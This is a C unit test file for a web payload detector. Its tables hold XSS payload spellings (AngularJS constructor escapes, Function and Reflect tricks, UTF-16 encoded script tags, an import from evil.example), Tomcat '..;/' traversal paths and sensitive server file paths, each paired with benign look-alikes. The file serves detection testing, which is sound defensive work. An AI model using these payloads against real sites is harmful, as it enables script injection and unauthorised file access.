/* test_payload_web.c - XSS and path traversal written the way public payload
 * collections and scanners write them (issue 20, helper F): forms that a
 * probe table of cheat-sheet and traversal-list spellings found missed,
 * each judged as a query value, and look-alikes from real pages that must
 * draw nothing of the class. Each group's rows failed before its fix. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

struct row {
	const char *name;
	const char *v;
	enum payload_kind want; /* PAYLOAD_NONE: no finding of kind `not` */
	enum payload_kind not;
};

/* the kinds payload_scan finds for v as a query value, as bits */
static unsigned kinds_of(const char *v, unsigned where)
{
	struct payload_match m[PAYLOAD__COUNT];
	unsigned bits = 0;
	int k = payload_scan(v, strlen(v), where, m, PAYLOAD__COUNT);

	for (int i = 0; i < k; i++)
		bits |= 1u << m[i].kind;
	return bits;
}

static void run_rows(const struct row *t, size_t n, unsigned where)
{
	int bad = 0;

	for (size_t i = 0; i < n; i++) {
		unsigned bits = kinds_of(t[i].v, where);
		int ok = t[i].want != PAYLOAD_NONE ? (bits >> t[i].want) & 1 : !((bits >> t[i].not) & 1);

		if (!ok) {
			print_error("%s: %s (kinds 0x%x)\n", t[i].name, t[i].v, bits);
			bad++;
		}
	}
	assert_int_equal(bad, 0);
}

#define Q PAYLOAD_WHERE_QUERY

/* AngularJS normalises a directive's name before matching it: a data- or
 * x- prefix is dropped and ':', '_' and '-' are the same delimiter, so
 * data-ng-init, x-ng-init, ng:init and ng_init are all ng-init; htmx reads
 * data-hx-on like hx-on. */
static void test_framework_attr_spellings(void **st)
{
	static const struct row t[] = {
		{"data-ng-init", "<div data-ng-init=\"constructor.constructor('alert(1)')()\">", PAYLOAD_XSS, 0},
		{"x-ng-init", "<div x-ng-init=\"constructor.constructor('alert(1)')()\">", PAYLOAD_XSS, 0},
		{"ng:init", "<div ng:init=\"constructor.constructor('alert(1)')()\">", PAYLOAD_XSS, 0},
		{"ng_init", "<div ng_init=\"constructor.constructor('alert(1)')()\">", PAYLOAD_XSS, 0},
		{"data-ng-click", "<div data-ng-click=\"$event.view.alert(1)\">x</div>", PAYLOAD_XSS, 0},
		{"data-ng-focus", "<input data-ng-focus=\"$event.view.alert(1)\" autofocus>", PAYLOAD_XSS, 0},
		{"data-hx-on", "<div data-hx-on:click=\"alert(1)\">", PAYLOAD_XSS, 0},
		{"benign data-ng-repeat", "<li data-ng-repeat=\"item in items\">{{item.name}}</li>",
		 PAYLOAD_NONE, PAYLOAD_XSS},
		{"benign data-ng-click", "<button data-ng-click=\"save(form)\">Save</button>", PAYLOAD_NONE,
		 PAYLOAD_XSS},
		{"benign x-ng-model", "<input x-ng-model=\"user.email\">", PAYLOAD_NONE, PAYLOAD_XSS},
	};
	(void)st;
	run_rows(t, sizeof(t) / sizeof(t[0]), Q);
}

/* A value that is a script statement by itself, reflected into a script
 * block or a handler: a dialog sink handed over as a callback or an error
 * handler instead of called by name at the start, or script built by the
 * Function constructor from a string. */
static void test_whole_value_script(void **st)
{
	static const struct row t[] = {
		{"map(alert)", "[1].map(alert)", PAYLOAD_XSS, 0},
		{"find(confirm)", "[1].find(confirm)", PAYLOAD_XSS, 0},
		{"onerror=alert;throw", "onerror=alert;throw 1", PAYLOAD_XSS, 0},
		{"throw onerror=alert", "throw onerror=alert,1", PAYLOAD_XSS, 0},
		{"alias called", "x=alert,x(1)", PAYLOAD_XSS, 0},
		{"Function string called", "Function('alert(1)')()", PAYLOAD_XSS, 0},
		{"Function tagged", "Function`alert\\x281\\x29```", PAYLOAD_XSS, 0},
		{"constructor chain", "constructor.constructor('alert(1)')()", PAYLOAD_XSS, 0},
		{"string constructor chain", "''.constructor.constructor('alert(1)')()", PAYLOAD_XSS, 0},
		{"valueOf constructor", "valueOf.constructor('prompt(1)')()", PAYLOAD_XSS, 0},
		{"Reflect.apply", "Reflect.apply(alert,window,[1])", PAYLOAD_XSS, 0},
		{"last callback argument", "Array.from([1],alert)", PAYLOAD_XSS, 0},
		{"constructor given a call", "atob.constructor(atob('YWxlcnQoMSk='))()", PAYLOAD_XSS, 0},
		{"benign IIFE", "(function(){return 1})()", PAYLOAD_NONE, PAYLOAD_XSS},
		{"import remote", "import('//evil.example/x.js')", PAYLOAD_XSS, 0},
		{"import data", "import(\"data:text/javascript,alert(1)\")", PAYLOAD_XSS, 0},
		{"location to another origin", "document.location.href='//evil.example'", PAYLOAD_XSS, 0},
		{"location http", "location=\"https://evil.example/p\"", PAYLOAD_XSS, 0},
		{"benign relative import", "import('./chart.js')", PAYLOAD_NONE, PAYLOAD_XSS},
		{"benign location prose", "location='home'", PAYLOAD_NONE, PAYLOAD_XSS},
		{"benign location field", "location=https://example.com/store", PAYLOAD_NONE, PAYLOAD_XSS},
		{"benign prose alert", "set a price alert (alert)", PAYLOAD_NONE, PAYLOAD_XSS},
		{"benign code snippet", "arr.map(x => x * 2)", PAYLOAD_NONE, PAYLOAD_XSS},
		{"benign function snippet", "function(a, b) { return a + b; }", PAYLOAD_NONE, PAYLOAD_XSS},
		{"benign constructor question", "what does Object.constructor(x) return", PAYLOAD_NONE,
		 PAYLOAD_XSS},
		{"benign alert word list", "alert,warning,error", PAYLOAD_NONE, PAYLOAD_XSS},
		{"benign sort key", "sort=price,alert", PAYLOAD_NONE, PAYLOAD_XSS},
	};
	(void)st;
	run_rows(t, sizeof(t) / sizeof(t[0]), Q);
}

/* Tomcat drops a segment's path parameters (";..." up to the next '/')
 * before it resolves dot segments, so "..;/" is a parent step to it and a
 * name to a proxy in front: written to reach what the proxy guards
 * (/app/..;/manager/html) even when it stays under the root. */
static void test_tomcat_parent_param(void **st)
{
	static const struct row t[] = {
		{"..;/ to manager", "/app/..;/manager/html", PAYLOAD_TRAVERSAL, 0},
		{"..;/ twice", "/app/..;/..;/admin/", PAYLOAD_TRAVERSAL, 0},
		{"..;/ to actuator", "/api/..;/actuator/env", PAYLOAD_TRAVERSAL, 0},
		{"..;jsessionid", "/static/..;jsessionid=1/console", PAYLOAD_TRAVERSAL, 0},
		{"..%3b encoded", "/app/..%3B/manager/html", PAYLOAD_TRAVERSAL, 0},
		{"benign matrix parameter", "/files/report;v=2/raw", PAYLOAD_NONE, PAYLOAD_TRAVERSAL},
		{"benign emoticon", "ok..;)", PAYLOAD_NONE, PAYLOAD_TRAVERSAL},
		{"benign dots then semicolon", "wait..; then go", PAYLOAD_NONE, PAYLOAD_TRAVERSAL},
	};
	(void)st;
	run_rows(t, sizeof(t) / sizeof(t[0]), Q);
	run_rows(t, sizeof(t) / sizeof(t[0]), PAYLOAD_WHERE_PATH);
}

/* Markup written in UTF-16 (every other byte NUL, big- or little-endian,
 * percent-encoded), as encoding lists spell it for a page or a decoder
 * that reads the value as UTF-16. */
static void test_utf16_markup(void **st)
{
	static const struct row t[] = {
		{"be script", "%00%3C%00s%00c%00r%00i%00p%00t%00%3E%00a%00l%00e%00r%00t%00%28%001%00%29%00%3C%00%2F%00s%00c%00r%00i%00p%00t%00%3E",
		 PAYLOAD_XSS, 0},
		{"le svg onload", "%3C%00s%00v%00g%00%20%00o%00n%00l%00o%00a%00d%00%3D%00a%00l%00e%00r%00t%00%28%001%00%29%00%3E%00",
		 PAYLOAD_XSS, 0},
		{"be attribute break", "%00%22%00%20%00o%00n%00m%00o%00u%00s%00e%00o%00v%00e%00r%00%3D%00a%00l%00e%00r%00t%00%28%001%00%29%00%20%00x%00%3D%00%22",
		 PAYLOAD_XSS, 0},
		{"be js string break", "%00%27%00-%00a%00l%00e%00r%00t%00%28%001%00%29%00-%00%27", PAYLOAD_XSS, 0},
		{"benign utf-16 text", "%00h%00e%00l%00l%00o%00 %00w%00o%00r%00l%00d", PAYLOAD_NONE, PAYLOAD_XSS},
		{"benign utf-16 bold", "%00<%00b%00>%00h%00i%00<%00/%00b%00>", PAYLOAD_NONE, PAYLOAD_XSS},
		{"benign one nul", "report.pdf%00<b>", PAYLOAD_NONE, PAYLOAD_XSS},
	};
	(void)st;
	run_rows(t, sizeof(t) / sizeof(t[0]), Q);
}

/* A query value's '+' reaches the server as a blank but script in the
 * page as itself: decodeURIComponent(location.search) keeps it, so a DOM
 * sink gets '+alert(1)+' as the payload lists write it. */
static void test_plus_kept_in_query(void **st)
{
	static const struct row t[] = {
		{"single quotes", "'+alert(1)+'", PAYLOAD_XSS, 0},
		{"double quotes", "\"+alert(1)+\"", PAYLOAD_XSS, 0},
		{"prompt domain", "'+prompt(document.domain)+'", PAYLOAD_XSS, 0},
		{"percent-encoded quote", "%27+confirm(1)+%27", PAYLOAD_XSS, 0},
		{"benign c++ quote", "C++ 'tips'+tricks", PAYLOAD_NONE, PAYLOAD_XSS},
		{"benign quoted phrase", "\"new+york\"+hotels", PAYLOAD_NONE, PAYLOAD_XSS},
		{"benign sum", "'a'+'b'", PAYLOAD_NONE, PAYLOAD_XSS},
	};
	(void)st;
	run_rows(t, sizeof(t) / sizeof(t[0]), Q);
}

/* Files an LFI list names by their absolute path, with no "../": a
 * server's configuration and logs under the system trees (/usr/local/...,
 * /var/..., /opt/..., /srv/..., /root/..., macOS's /private/etc/), and
 * a name with NTFS's "::$DATA" stream suffix (IIS served the source). */
static void test_absolute_server_files(void **st)
{
	static const struct row t[] = {
		{"nginx conf", "/usr/local/nginx/conf/nginx.conf", PAYLOAD_TRAVERSAL, 0},
		{"mysql log", "/usr/local/mysql/data/mysql.log", PAYLOAD_TRAVERSAL, 0},
		{"cpanel access log", "/usr/local/cpanel/logs/access_log", PAYLOAD_TRAVERSAL, 0},
		{"cpanel config", "/var/cpanel/cpanel.config", PAYLOAD_TRAVERSAL, 0},
		{"pure-ftpd conf", "/usr/etc/pure-ftpd.conf", PAYLOAD_TRAVERSAL, 0},
		{"root kickstart", "/root/anaconda-ks.cfg", PAYLOAD_TRAVERSAL, 0},
		{"srv php", "/srv/www/htdocs/index.php", PAYLOAD_TRAVERSAL, 0},
		{"macos master.passwd", "/private/etc/master.passwd", PAYLOAD_TRAVERSAL, 0},
		{"ntfs stream", "index.php::$DATA", PAYLOAD_TRAVERSAL, 0},
		{"ntfs stream config", "web.config::$data", PAYLOAD_TRAVERSAL, 0},
		{"benign doc path", "/usr/share/doc/bash/README", PAYLOAD_NONE, PAYLOAD_TRAVERSAL},
		{"benign app route", "/var/reports/2024/summary", PAYLOAD_NONE, PAYLOAD_TRAVERSAL},
		{"benign prose", "where is /usr/local/etc on a mac", PAYLOAD_NONE, PAYLOAD_TRAVERSAL},
		{"benign web url config", "https://example.com/opt/settings/app.config", PAYLOAD_NONE,
		 PAYLOAD_TRAVERSAL},
		{"benign css", "/srv/static/site.css", PAYLOAD_NONE, PAYLOAD_TRAVERSAL},
	};
	(void)st;
	run_rows(t, sizeof(t) / sizeof(t[0]), Q);
}

/* The payload as the whole query string (/search?<svg onload=alert(1)>):
 * the split at the first '=' leaves the start tag and the handler's name
 * in the parameter name and the code in its value, so the name is a tag
 * cut off at an event handler's name. */
static void test_whole_query_tag(void **st)
{
	static const struct {
		const char *q;
		int xss;
	} t[] = {
		{"<svg onload=alert(1)>", 1},
		{"<body/onpageshow=alert(1)>", 1},
		{"<details open ontoggle=alert(1)>", 1},
		{"<x%0Conclick=alert(1)>click", 1},
		{"<div onpointerrawupdate=alert(1)>x</div>", 1},
		{"\"/onfocus=alert(1)//", 1},
		/* a snippet of a framework's markup as a whole query: names
		 * like @click cut off are its own; so is a quote and a
		 * handler's name alone (the red team's tricky '" onclick') */
		{"<button @click=\"count++\">+</button>", 0},
		{"\" onclick=1", 0},
		{"q=<b>bold</b>&sort=asc", 0},
		{"filter=onload&x=<i>", 0},
		{"<b onclick>=1", 0},
	};
	struct payload_match m[PAYLOAD__COUNT];
	int bad = 0;

	(void)st;
	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
		int k = payload_scan_query(t[i].q, strlen(t[i].q), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT), x = 0;

		for (int j = 0; j < k; j++)
			x |= m[j].kind == PAYLOAD_XSS;
		if (x != t[i].xss) {
			print_error("%s: xss %d, want %d\n", t[i].q, x, t[i].xss);
			bad++;
		}
	}
	assert_int_equal(bad, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_framework_attr_spellings),
		cmocka_unit_test(test_whole_value_script),
		cmocka_unit_test(test_tomcat_parent_param),
		cmocka_unit_test(test_utf16_markup),
		cmocka_unit_test(test_plus_kept_in_query),
		cmocka_unit_test(test_absolute_server_files),
		cmocka_unit_test(test_whole_query_tag),
	};
	payload_cache_enable(0);
	return cmocka_run_group_tests(tests, NULL, NULL);
}
